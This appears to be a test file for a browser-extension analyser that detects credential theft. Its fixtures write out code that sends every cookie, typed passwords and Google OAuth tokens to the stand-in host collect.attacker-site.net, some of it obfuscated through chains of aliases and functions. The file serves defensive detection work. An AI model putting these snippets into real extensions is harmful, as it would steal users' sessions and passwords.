import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { extensionOf } from '../../testing/build-extension.ts';
import { analyse } from '../analyse/analyse.ts';
import type { JsonObject } from '../model/extension.ts';
import { theftFloor } from './theft-floor.ts';

const everywhere = { permissions: ['cookies'], host_permissions: ['<all_urls>'] };
const send = `fetch('https://collect.attacker-site.net/in', { method: 'POST', body: JSON.stringify(all) })`;
const stealing = `chrome.cookies.getAll({}, (all) => { ${send}; });`;

const hostOf = (worker: string, manifest: JsonObject = everywhere): string | undefined => {
  const extension = extensionOf(
    { background: { service_worker: 'worker.js' }, ...manifest },
    { 'worker.js': worker },
  );
  return theftFloor(extension, analyse(extension, {}))?.host;
};

describe('the theft floor', () => {
  it('sees cookies that leave by themselves for a fixed foreign host', () => {
    assert.equal(hostOf(stealing), 'collect.attacker-site.net');
  });

  it('sees them behind as many names and functions as anyone likes', () => {
    const names = Array.from({ length: 30 }, (_, n) => `const all${n + 1} = all${n};`).join(' ');
    const functions = Array.from({ length: 30 }, (_, n) =>
      n === 0 ? `const send0 = (all) => ${send};` : `const send${n} = (all) => send${n - 1}(all);`,
    ).join(' ');
    const read = (code: string) => `chrome.cookies.getAll({}, (all0) => { ${code} });`;
    assert.equal(
      hostOf(read(`${names} ${send.replace('all', 'all30')};`)),
      'collect.attacker-site.net',
    );
    assert.equal(hostOf(`${functions} ${read('send29(all0);')}`), 'collect.attacker-site.net');
  });

  it('sees passwords that a script in pages sends away, and no other fields', () => {
    const script = (selector: string) => `
      const field = document.querySelector('${selector}');
      addEventListener('submit', () => fetch('https://collect.attacker-site.net/in', { method: 'POST', body: field.value }));`;
    const pageHost = (selector: string) => {
      const content_scripts = [{ matches: ['<all_urls>'], js: ['page.js'] }];
      const extension = extensionOf({ content_scripts }, { 'page.js': script(selector) });
      return theftFloor(extension, analyse(extension, {}))?.host;
    };
    assert.equal(pageHost('input[type=password]'), 'collect.attacker-site.net');
    assert.equal(pageHost('input[name=q]'), undefined);
  });

  for (const [host, seen] of [
    ['www.googleapis.com', undefined],
    ['storage.googleapis.com', 'storage.googleapis.com'],
    ['collect.attacker-site.net', 'collect.attacker-site.net'],
  ] as const)
    it(`sees ${seen === undefined ? 'none of' : ''} a token of Google's that leaves for ${host}`, () => {
      const use = `chrome.identity.getAuthToken({}, (token) => fetch('https://${host}/drive/v3/files', { headers: { Authorization: 'Bearer ' + token } }));`;
      const oauth2 = { client_id: '7', scopes: [] };
      assert.equal(hostOf(use, { permissions: ['identity'], oauth2 }), seen);
    });

  for (const [why, manifest] of [
    ['the homepage', { homepage_url: 'https://attacker-site.net/about' }],
    ['a site that the manifest names', { host_permissions: ['https://*.attacker-site.net/*'] }],
  ] as const) {
    it(`sees none that leave for ${why}`, () => {
      assert.equal(hostOf(stealing, { ...everywhere, ...manifest }), undefined);
    });
  }

  it('sees those that leave for a site that is named beside all others', () => {
    const host_permissions = ['<all_urls>', 'https://*.attacker-site.net/*'];
    assert.equal(
      hostOf(stealing, { ...everywhere, host_permissions }),
      'collect.attacker-site.net',
    );
  });

  it('sees those that leave for the only site at first, where all others may be asked for', () => {
    const host_permissions = ['https://*.attacker-site.net/*'];
    const manifest = { ...everywhere, host_permissions, optional_host_permissions: ['<all_urls>'] };
    assert.equal(hostOf(stealing, manifest), 'collect.attacker-site.net');
  });

  it('sees none that the user starts by a click', () => {
    const clicked = `chrome.action.onClicked.addListener(() => { ${stealing} });`;
    assert.equal(hostOf(clicked), undefined);
  });

  it('sees none whose host is not fixed, as one that the user has typed', () => {
    const chosen = `chrome.storage.local.get('server', ({ server }) => chrome.cookies.getAll({}, (all) => {
      fetch(server, { method: 'POST', body: JSON.stringify(all) }); }));`;
    assert.equal(hostOf(chosen), undefined);
  });
});
